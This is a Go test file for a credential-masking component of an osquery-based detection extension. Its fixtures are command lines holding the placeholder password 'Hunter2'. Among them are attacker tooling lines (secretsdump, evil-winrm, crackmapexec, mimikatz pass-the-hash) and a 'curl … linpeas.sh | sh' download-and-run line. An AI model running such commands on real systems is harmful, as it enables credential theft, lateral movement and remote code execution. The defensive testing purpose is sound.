package secret_test

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/osquery-rollcall/rollcall/extension/cmdline/secret"
	"github.com/osquery-rollcall/rollcall/extension/engine"
	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/rule"
	"github.com/osquery-rollcall/rollcall/extension/score"
)

// The lines hold Hunter2 wherever a secret is: nothing else may go.
var secrets = []string{
	// settings
	"env PGPASSWORD=Hunter2 psql", "app --api-key 'Hunter2' run", `app -apikey:"Hunter2"`, "export AWS_SECRET_ACCESS_KEY=Hunter2", "aws configure set aws_secret_access_key Hunter2", "helm install --set db.password=Hunter2 x",
	"docker run -e MYSQL_ROOT_PASSWORD=Hunter2 mysql", "java -Djavax.net.ssl.keyStorePassword=Hunter2 x", "keytool -storepass Hunter2 -list", "gpg --passphrase Hunter2 -d x", "openssl enc -d -pass pass:Hunter2", "openssl enc -k Hunter2 -in x",
	"mount -t cifs //h/s /m -o username=u,password=Hunter2", "mount -o user=u,pass=Hunter2 x y", `curl -d '{"password": "Hunter2"}' h`, `curl -d "{\"password\": \"Hunter2\"}" h`, "cmdkey /add:srv /user:u /pass:Hunter2", "curl 'https://h/?token=Hunter2&x=1'",
	`app /password:\"Hunter2\" x`, "wget --http-password=Hunter2 h", `powershell New-LocalUser -Name a -Password Hunter2`,
	// Windows' tools
	`wmic /node:x /user:a /password:Hunter2 service list`, `psexec \\h -u adm -p Hunter2 sc query`, `"C:\Tools\PsExec64.exe" \\h -p "Hunter2" -u u sc query`, `schtasks /create /ru x /rp Hunter2 /tn y`, `tasklist /s h /u u /p Hunter2 /svc`,
	"winrs -r:h -u:u -p:Hunter2 sc query", `net use \\srv\c$ Hunter2 /user:adm`, `net use \\srv\c$ /user:adm Hunter2`, `net use * "\\srv\a" /user:adm "Hunter2"`, "net user bob Hunter2 /add", "net1 user bob Hunter2 /domain", `sc config svc obj= dom\u password= Hunter2`,
	"sqlcmd -S h -U sa -P Hunter2", "bcp db out x -U sa -P Hunter2", "plink -pw Hunter2 u@h", `powershell -c "ConvertTo-SecureString 'Hunter2' -AsPlainText -Force"`, "powershell ConvertTo-SecureString -String Hunter2 -AsPlainText",
	// Unix' tools
	"sshpass -p Hunter2 ssh root@db systemctl", "sshpass -pHunter2 ssh h", "mysql -u root -pHunter2 -e 'select 1'", "redis-cli -a Hunter2 info", "mongo -u a -p Hunter2", "mongodump --password=Hunter2", "docker login -u u -p Hunter2", "az login --service-principal -u a -p Hunter2",
	"ldapsearch -x -D cn=a -w Hunter2 -b dc=x", "7z x -pHunter2 a.7z", "rar x -hpHunter2 a.rar", "unzip -P Hunter2 a.zip", "useradd -p Hunter2 bob", "htpasswd -b f u Hunter2", "ssh-keygen -N Hunter2 -f k", "vault login Hunter2",
	"echo Hunter2 | sudo -S systemctl list-units", `echo "bob:Hunter2" | sudo chpasswd`, "chpasswd <<< 'bob:Hunter2'", "curl -u bob:Hunter2 http://x", "curl --user=bob:Hunter2 h", "ftp -u u:Hunter2@h", "git clone https://bob:Hunter2@example.com/x",
	`curl -H "Authorization: Bearer Hunter2" x`, `curl -H "X-Api-Key: Hunter2" x`,
	// an intruder's
	"smbclient //h/s -U user%Hunter2", "winexe -U u%Hunter2 //h cmd", "crackmapexec smb h -u u -p Hunter2", "evil-winrm -i h -u u -p Hunter2", "impacket-psexec dom/user:Hunter2@host", "secretsdump.py dom/u:Hunter2@10.0.0.1",
}

func TestSecretsGo(t *testing.T) {
	for _, in := range secrets {
		want := strings.ReplaceAll(in, "Hunter2", secret.Mask)
		if got, masked := secret.MaskIn(in); got != want || !masked {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
	// These are known by their own form.
	for in, want := range map[string]string{
		"aws --key AKIAABCDEFGHIJKLMNOP":                                                      "aws --key " + secret.Mask,
		"x ghp_abcdefghijklmnopqrstuvwxyz0123456789":                                          "x " + secret.Mask,
		"x xoxb-1234567890-abcdefghij":                                                        "x " + secret.Mask,
		"x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghij":                               "x " + secret.Mask,
		"echo -----BEGIN RSA PRIVATE KEY-----MIIEow-----END RSA PRIVATE KEY-----":             "echo -----BEGIN RSA PRIVATE KEY-----" + secret.Mask + "-----END RSA PRIVATE KEY-----",
		"mimikatz sekurlsa::pth /ntlm:32ED87BDB5FDC5E9CBA88547376818D4":                       "mimikatz sekurlsa::pth /ntlm:" + secret.Mask,
		"nxc smb h -u u -H aad3b435b51404eeaad3b435b51404ee:32ed87bdb5fdc5e9cba88547376818d4": "nxc smb h -u u -H " + secret.Mask,
		"usermod -p '$6$salt$hash' bob":                                                       "usermod -p '" + secret.Mask + "' bob",
		`app --api-key "Hunter 2" run`:                                                        `app --api-key "` + secret.Mask + `" run`,
	} {
		if got, _ := secret.MaskIn(in); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

func TestTheRestStays(t *testing.T) {
	for _, in := range []string{
		"", "systemctl list-units --type=service", "sc query", `reg query HKLM\SYSTEM\CurrentControlSet\Services`, "tasklist /svc",
		"app --token-file /etc/token", "app --password-file=/run/secrets/db", "vault --token-helper x", "docker login --password-stdin", "kubectl create token default", "kubectl get secret db -o yaml", "ls /etc/secrets",
		"openssl genrsa -out private_key.pem 2048", "ssh -i ~/.ssh/id_rsa host", "git config credential.helper store", "passwd", "passwd bob", "passwd -S root", "ls -la /etc/passwd", "cat /etc/passwd -n", "grep password /etc/app.conf",
		"reg query HKLM /f password /t REG_SZ /s", "findstr /si password *.xml *.ini", "dir /s *pass* == *cred*", "net user /domain", "net user bob /domain", "net user administrator /active:yes", "net use", `net use Z: \\srv\share`,
		"net accounts /domain", "cmdkey /list", "runas /savecred /user:x cmd", "ldapsearch -x -H ldap://h -b dc=x", "sshpass -e ssh h", "msbuild /p:Configuration=Release", "nmap -p 22 h", "ps -p 12", "mkdir -p /tmp/x", "tar -xpf a.tar",
		"ssh -p 22 host", "unzip -p a.zip", "keytool -list", "curl https://example.com/a", "powershell Get-Credential", "powershell New-LocalUser -Password (Read-Host)", "mysql -p", "app --password $PW", "app /password:%PW%", "app --password=${PW}", "wmic /password:* x",
		`net start "Password Manager"`, "sc query KeyIso", `sc qc "Token Broker"`, "systemctl status systemd-ask-password-console.path", "ls /etc/systemd/system/pwd.service", `Get-Service -Name "pwd*"`, "gsv *token*", "docker pull repo/app:1.2@sha256:0123",
	} {
		if got, masked := secret.MaskIn(in); got != in || masked {
			t.Errorf("%s became %s", in, got)
		}
	}
}

// What a command line is judged as does not depend on the secrets in it.
func TestTheVerdictStays(t *testing.T) {
	set, err := rule.Embedded()
	if err != nil {
		t.Fatal(err)
	}
	judge := &engine.Judge{Rules: set, Weights: score.DefaultWeights()}
	type verdict struct {
		T1007     bool
		Scope     rule.Scope
		RuleIDs   []string
		Score     int
		Canonical []string
	}
	lines := append([]string{
		`wmic /node:srv /user:a /password:Hunter2 service get name`, `wmic /node:srv /user:a /password:"Hunter2" service where name='x' get state`, `psexec \\srv -u adm -p Hunter2 cmd /c "sc query | find ""x"""`,
		`winrs -r:srv -u:adm -p:Hunter2 net start`, `tasklist /s srv /u adm /p Hunter2 /svc`, `schtasks /query /s srv /u adm /p Hunter2`, `driverquery /s srv /u adm /p Hunter2`, `psservice \\srv -u adm -p Hunter2 query`,
		`cmd /c "net use \\srv\c$ Hunter2 /user:adm & sc \\srv query"`, `powershell -c "$c = New-Object PSCredential('u',(ConvertTo-SecureString 'Hunter2' -AsPlainText -Force)); Get-WmiObject Win32_Service -ComputerName srv -Credential $c"`,
		`powershell -c "Invoke-Command -ComputerName srv -Credential (New-Object PSCredential('u',(ConvertTo-SecureString 'Hunter2' -AsPlainText -Force))) { Get-Service }"`,
		"sshpass -p Hunter2 ssh root@db 'systemctl list-units'", "echo Hunter2 | sudo -S systemctl list-units", "PGPASSWORD=Hunter2 systemctl list-units", "env TOKEN=Hunter2 sh -c 'service --status-all'", "curl -u a:Hunter2 http://x/linpeas.sh | sh",
		"docker run -e DB_PASSWORD=Hunter2 web systemctl list-units", "sudo mysql -pHunter2 -e 'x'; ls /etc/init.d", "ansible all -e ansible_password=Hunter2 -m shell -a 'systemctl list-units'",
	}, secrets...)
	found := 0
	for _, line := range lines {
		masked, _ := secret.MaskIn(line)
		for _, platform := range []evidence.Platform{evidence.Windows, evidence.Linux, evidence.Darwin} {
			var got [2]verdict
			for i, text := range []string{line, masked} {
				v := judge.Judge(&evidence.Process{CmdLine: text, Platform: platform}, nil, time.Unix(0, 0))
				got[i] = verdict{v.T1007, v.Scope, v.RuleIDs, v.Score, v.Canonical}
				if v.T1007 {
					found++
				}
				for _, c := range v.Canonical {
					if strings.Contains(c, "Hunter2") {
						t.Errorf("%s on %s is shown as %s", text, platform, c)
					}
				}
			}
			if d := cmp.Diff(got[0], got[1]); d != "" {
				t.Errorf("%s on %s is judged otherwise when masked (-as it is +masked):\n%s", line, platform, d)
			}
		}
	}
	if found < 40 {
		t.Errorf("only %d verdicts were about services: the test compares nothing", found)
	}
}

func FuzzMaskIn(f *testing.F) {
	for _, s := range secrets {
		f.Add(s)
	}
	f.Add(`app --token "a" 'b' \"c\" | sudo -S x`)
	f.Fuzz(func(t *testing.T, s string) {
		once, masked := secret.MaskIn(s)
		if len(once) > len(s)*len(secret.Mask)+len(secret.Mask) {
			t.Errorf("grew from %d to %d bytes", len(s), len(once))
		}
		if masked != (once != s) || masked && !strings.Contains(once, secret.Mask) {
			t.Errorf("%q became %q, masked %v", s, once, masked)
		}
	})
}

func BenchmarkMaskIn(b *testing.B) {
	for name, s := range map[string]string{
		"nothing": "/usr/bin/gcc -O2 -Wall -Wextra -g -fstack-protector-strong -I/usr/include/glib-2.0 -I. -c -o build/obj/module_parser.o src/module_parser.c",
		"secret":  `wmic /node:srv01 /user:adm /password:Hunter2 service get name,displayname,pathname,startmode`,
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				secret.MaskIn(s)
			}
		})
	}
}
